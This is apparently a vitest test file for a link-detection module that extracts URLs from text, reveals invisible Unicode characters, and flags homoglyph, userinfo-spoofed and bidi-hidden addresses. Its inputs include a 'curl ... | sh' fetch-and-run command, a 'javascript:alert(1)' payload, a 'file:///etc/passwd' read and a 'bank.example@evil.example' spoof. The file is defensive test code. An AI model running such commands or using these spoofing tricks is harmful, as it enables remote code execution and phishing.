import { expect, test } from "vitest";
import { pieces, read, visible } from "../src/events/link_text";

const links = (text: string) =>
  pieces(text)
    .filter((piece) => piece.link)
    .map((piece) => piece.text);

test("addresses of the web are found, without what closes the sentence around them", () => {
  for (const [text, expected] of [
    ["no address", []],
    ["curl http://203.0.113.9/x.sh | sh", ["http://203.0.113.9/x.sh"]],
    ["(see https://a.example/b?c=1#d).", ["https://a.example/b?c=1#d"]],
    ["下载：https://a.example/b，然后", ["https://a.example/b"]],
    ['<a href="https://a.example/">x</a>', ["https://a.example/"]],
    ["http:// and https://", []],
    ["javascript:alert(1) file:///etc/passwd ftp://a.example www.a.example", []],
    ["HTTPS://A.example/ http://b.example", ["HTTPS://A.example/", "http://b.example"]],
  ] as const) {
    expect([text, links(text)]).toEqual([text, expected]);
  }
});

test("the pieces of a text are the text", () => {
  const texts = [
    "",
    "a",
    "http://a.example",
    " http://a.example, http://b.example; ",
    "\u202ehttp://a.example\u0000",
  ];
  for (const text of texts) {
    const joined = pieces(text).map((piece) => piece.text);
    expect(joined.join("")).toBe(text);
  }
});

test("what cannot be seen is written as its code", () => {
  expect(visible("a\u202eb\u200b\u0007 c\u00a0")).toBe("a[U+202E]b[U+200B][U+0007] c[U+00A0]");
  expect(visible("支付 https://a.example")).toBe("支付 https://a.example");
});

test("an address tells the host that a browser would ask for", () => {
  expect(read("http://203.0.113.9/x.sh")).toMatchObject({
    host: "203.0.113.9",
    hidden: false,
    foreign: false,
    login: false,
  });
  expect(read("https://\u0430pple.example/")).toMatchObject({ host: "xn--pple-43d.example", foreign: true });
  expect(read("https://bank.example@evil.example")).toMatchObject({ host: "evil.example", login: true });
  expect(read("https://a.example/\u202e")).toMatchObject({
    hidden: true,
    plain: "https://a.example/%E2%80%AE",
  });
  for (const text of ["", "javascript:alert(1)", "http://", "https://[", "file:///etc/passwd"]) {
    expect(read(text)).toBeNull();
  }
});
